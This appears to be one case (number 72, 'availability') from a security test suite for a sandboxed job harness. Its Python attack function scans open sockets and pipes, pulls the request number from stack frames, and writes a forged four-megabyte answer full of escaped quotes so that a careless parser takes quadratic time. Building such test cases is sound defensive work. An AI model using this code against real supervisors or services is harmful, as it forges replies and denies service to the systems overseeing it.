"""
number = 72
family = "availability"
what = "answer with four megabytes of escaped quotation marks, on which a careless expression takes quadratic time"
stopped_by = ["expressions over a job's bytes take linear time"]
verdicts = {full = ["bad_return"], contained = ["bad_return"], limited = ["bad_return"]}
"""

import os
import stat
import struct
import sys


def channels() -> list[int]:
    found = []
    for number in range(3, 65):
        try:
            mode = os.fstat(number).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
            found.append(number)
    return found


def request_number() -> int:
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            table = value if isinstance(value, dict) else getattr(value, "header", None)
            if isinstance(table, dict) and isinstance(table.get("n"), int):
                return table["n"]
        frame = frame.f_back
    return 0


def attack(targets: dict) -> str:
    header = b'{"n": %d, "ok": %s' % (request_number(), b'\\"' * 2_000_000)
    for number in channels():
        left = memoryview(b"GRDF" + struct.pack("<IIQ", 1, len(header), 0) + header)
        while left:
            left = left[os.write(number, left[: 1 << 18]) :]
    return "stopped: behind a forged answer"
